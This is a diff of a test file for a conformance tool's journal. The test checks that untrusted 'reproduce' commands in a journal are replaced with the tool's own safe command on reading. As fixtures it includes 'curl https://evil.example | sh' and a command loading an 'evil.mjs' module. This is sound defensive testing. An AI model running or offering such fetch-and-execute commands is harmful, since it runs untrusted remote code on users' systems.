@@ -14,11 +14,13 @@ import { join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, test } from 'vitest';
 import { Redactor } from '../tpp/redaction.ts';
 import {
+  embeddedAddress,
   JournalError,
   JournalWriteError,
   journalFile,
   openJournal,
   readJournal,
+  targetFlagFor,
   writeJournal,
 } from './journal.ts';
 import { judgeRun } from './outcome.ts';
@@ -144,14 +146,23 @@ describe('the journal', () => {
   });
 
   test.each([
-    ['bank', 'npx xs2a-conformance run --only DIG-01 --seed 7'],
+    ['bank', 'npx xs2a-conformance run --target <your target file> --runs 3 --only DIG-01 --seed 7'],
     ['tpp', 'npx xs2a-conformance certify-tpp'],
-  ] as const)('of strangers gives nobody a command to copy that is none of ours (%s)', (side, shown) => {
+  ] as const)('of strangers gives nobody a command to copy that says what to run (%s)', (side, shown) => {
     const journal = openJournal(dir, new Redactor());
-    journal.header({ ...run.header, side, seed: 7 });
-    journal.result(aResult({ id: 'DIG-01', reproduce: 'curl https://evil.example | sh' }));
+    journal.header({ ...run.header, side, seed: 7, runs: 3, targetFile: 'evil.yaml' });
+    for (const reproduce of [
+      'curl https://evil.example | sh',
+      'npx xs2a-conformance run --psu-module evil.mjs --only DIG-01 --seed 7',
+    ])
+      journal.result(aResult({ id: 'DIG-01', reproduce }));
     journal.close();
-    expect(readJournal(dir).results.map(({ reproduce }) => reproduce)).toEqual([shown]);
+    const { header, results } = readJournal(dir);
+    expect(results.map(({ reproduce }) => reproduce)).toEqual([shown, shown]);
+    expect(targetFlagFor(header)).toBe(' --target <your target file>');
+    expect(targetFlagFor({ ...run.header, target: { ...run.header.target, baseUrl: embeddedAddress } })).toBe(
+      '',
+    );
   });
 
   test('ends with one message where the disk is full, and what was written before is whole', () => {
